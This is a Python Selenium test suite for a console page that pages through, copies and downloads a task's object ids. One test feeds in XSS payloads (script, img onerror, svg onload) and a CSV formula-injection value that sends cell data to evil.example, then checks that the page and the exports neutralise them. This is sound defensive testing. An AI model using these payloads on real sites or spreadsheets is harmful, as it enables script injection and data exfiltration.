"""Stories of a task's objects: shown page by page, copied, and downloaded."""

import csv
import json
import re

from console import WIDE, Console
from proxy import Proxy
from selenium.webdriver.common.by import By


class Objects(Console):
    """The objects of tasks of one runner."""

    def prepare(self):
        self.browser.size(*WIDE)
        self.start()
        ids = [f"obj-{number}" for number in range(901, 20_901)]
        self.create(task_id="large", object_ids=ids, reason="Article 17, ticket 4711")

    def twenty_thousand_objects_page_by_page(self):
        self.ended("large")
        failed = [failure["object_id"] for failure in self.outcomes("large", "failed")]
        self.open("?task=large")
        self.shows("#range", f"1 to 1,000 of {len(failed):,}")
        self.expect("the failures are shown first", self.objects() == failed[:1000], self.objects()[:3])
        self.expect("why is shown", "ticket 4711" in self.text("#fields"), self.text("#fields"))
        for page in (1, 2):
            self.browser.one("#next").click()
            self.shows("#range", f"{page},001 to {page + 1},000 of")
        self.expect("the third page has the third thousand", self.objects() == failed[2000:3000], self.objects()[:3])
        self.browser.one("#previous").click()
        self.shows("#range", "1,001 to 2,000 of")
        self.expect("the page before has the second thousand", self.objects() == failed[1000:2000], self.objects()[:3])
        self.inspect("a task")
        origin = {"origin": self.api, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
        self.browser.devtools("Browser.grantPermissions", **origin)
        self.browser.one("#copy").click()
        self.shows("#objects-note", "Copied 1,000 ids")
        copied = self.browser.run("return navigator.clipboard.readText()")
        self.expect("the ids of the page are copied", copied.split() == failed[1000:2000], copied[:100])
        rows = list(csv.reader(self.download("csv", "large-failed.csv").splitlines()))
        self.expect("the CSV has every failure", [row[0] for row in rows] == ["object_id", *failed], rows[:3])
        lines = [json.loads(line) for line in self.download("jsonl", "large-failed.jsonl").splitlines()]
        self.expect("the JSON Lines have every failure", [line["object_id"] for line in lines] == failed, lines[:3])
        self.open("?task=large")
        self.browser.one('#outcomes [data-outcome="deleted"]').click()
        self.shows("#range", f" of {20_000 - len(failed):,}")
        self.expect("the outcome is in the address", "outcome=deleted" in self.browser.driver.current_url, self.browser.driver.current_url)

    def outcomes(self, task_id, outcome):
        cursor, items = None, []
        while True:
            page = self.call("GET", "info", task_id=task_id, outcome=outcome, **({"cursor": cursor} if cursor else {}))
            items += page["items"]
            cursor = page["items_cursor"]
            if not cursor:
                return items

    def a_download_waits_and_stops_and_never_mixes_two_attempts(self):
        ids = [f"absent-{number}" for number in range(1, 1_501)]
        self.create(task_id="file", object_ids=ids)
        self.ended("file")
        with Proxy(self.api) as proxy:
            self.open("?task=file", proxy.url)
            self.shows("#range", "1 to 1,000 of 1,500")
            proxy.refuse((503, {}), (503, {"Retry-After": "1"}), to="outcome=failed")
            lines = self.download("jsonl", "file-failed.jsonl").splitlines()
            self.expect("a busy server delays a download, and does not end it", [json.loads(line)["object_id"] for line in lines] == ids, len(lines))
            self.expect("both refusals were met", not proxy.refusals, proxy.refusals)

            proxy.refuse((503, {"Retry-After": "60"}), to="outcome=failed")
            self.browser.one("#csv").click()
            self.browser.wait("the server is busy", lambda: not proxy.refusals)
            self.expect("the page says how far it is", self.text("#download-text") == "0 of 1,500 objects", self.text("#download-text"))
            self.browser.one("#download-stop").click()
            self.shows("#objects-note", "The download was stopped.")
            self.browser.wait("its bar goes", lambda: not self.seen("#download"))
            self.expect("the focus of the button goes to the heading", self.focus() == "objects-title", self.focus())

            proxy.change = self.restarts_between_pages
            self.browser.one("#csv").click()
            self.shows("#objects-note", "The download ended: the task was restarted meanwhile. Begin again.")
            kept = [file.name for file in self.processes.folder.glob("file-failed*")]
            self.expect("neither leaves a file", kept == [], kept)

    def restarts_between_pages(self, path, body):
        """Restarts the task after each first page of a download."""
        if "outcome=failed" in path and "cursor" not in path:
            self.call("PUT", "restart", task_id="file")
        return body

    def one_object_with_a_long_id(self):
        object_id = "two  spaces " + "x" * 1012
        self.create(task_id="one", object_ids=[object_id])
        self.ended("one")
        with Proxy(self.api) as proxy:
            proxy.refuse((503, {}), to="outcome=")
            self.browser.open(f"{proxy.url}/?task=one&outcome=unknown")
            self.shows("#objects-why", "The objects could not be read: Too many calls at once; try again.")
            self.hide(False)
            self.browser.wait("the next round reads them", lambda: not self.seen("#objects-why"))
            self.shows("#range", "1 of 1")
            self.shows("#copy", "Copy the id")
            shown = self.browser.run("return document.querySelector('#items .id').innerText")
            self.expect("its id is shown to the last space", shown == object_id, shown)
            self.expect("an unknown outcome is none", self.text("#outcomes [aria-current]") == "failed 1", self.text("#outcomes [aria-current]"))
            self.inspect("a long id")
            proxy.refuse(*[(503, {})] * 100, to="outcome=deleted")
            self.browser.one('#outcomes [data-outcome="deleted"]').click()
            self.shows("#objects-why", "The objects could not be read")
            self.expect("no object of another outcome is left", not self.seen("#items tr"))
            # While it is hidden, the page makes no round of its own.
            self.hide(True)
            proxy.refuse()
            self.browser.one("#objects-reload").click()
            self.shows("#range", "No object has the outcome “deleted”.")

    def no_text_of_a_caller_is_html(self):
        task_id = "<img/src=x/onerror=window.isHurt=1>&lt;b&gt;"
        objects = ["<script>window.isHurt=1</script>", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a "quoted", one', "-1+1"]
        self.create(task_id=task_id, embedding_model_id="<b>nowhere</b>", object_ids=objects, reason="<svg/onload=window.isHurt=1>")
        self.ended(task_id)
        self.open()
        self.browser.wait("its row is shown", lambda: self.row(task_id))
        self.expect("the list shows the model as text", "<b>nowhere</b>" in self.row(task_id), self.row(task_id))
        self.browser.one("#rows").find_element(By.LINK_TEXT, task_id).click()
        self.shows("#range", "of 4")
        self.expect("the title is the id as text", self.text("#task-title") == task_id, self.text("#task-title"))
        self.expect("the reason is text", "<svg/onload" in self.text("#fields"), self.text("#fields"))
        self.expect("the object ids are text", self.objects() == objects, self.objects())
        made = self.browser.run("return document.querySelectorAll('main img, main b, main script, main a[href*=evil]').length")
        self.expect("nothing of it is an element", made == 0, made)
        self.expect("nothing of it has run", not self.browser.run("return window.isHurt"))
        name = re.sub("[^A-Za-z0-9._-]+", "_", task_id)
        text = self.download("csv", f"{name}-failed.csv")
        rows = list(csv.reader(text.splitlines()))
        guarded = [objects[0], "'" + objects[1], objects[2], "'" + objects[3]]
        self.expect("a spreadsheet computes none of the ids", [row[0] for row in rows[1:]] == guarded, rows)
        self.expect("the CSV has the line ends of RFC 4180", text.count("\r\n") == 5 == text.count("\n"), text)
        self.expect("the page says so", "In 2 of them a ' stands before" in self.text("#objects-note"), self.text("#objects-note"))
        lines = self.download("jsonl", f"{name}-failed.jsonl").splitlines()
        self.expect("the JSON Lines have the ids unchanged", [json.loads(line)["object_id"] for line in lines] == objects, lines)

    def download(self, button, name):
        """Downloads a file, and returns its content, including its line ends."""
        self.browser.one(f"#{button}").click()
        file = self.processes.folder / name
        self.browser.wait(f"{name} is there", file.exists)
        self.shows("#objects-note", "Downloaded")
        content = file.read_bytes().decode()
        file.unlink()
        return content

    def objects(self):
        return self.browser.run("return [...document.querySelectorAll('#items .id')].map(cell => cell.textContent)")

    STORIES = (
        one_object_with_a_long_id,
        no_text_of_a_caller_is_html,
        a_download_waits_and_stops_and_never_mixes_two_attempts,
        twenty_thousand_objects_page_by_page,
    )
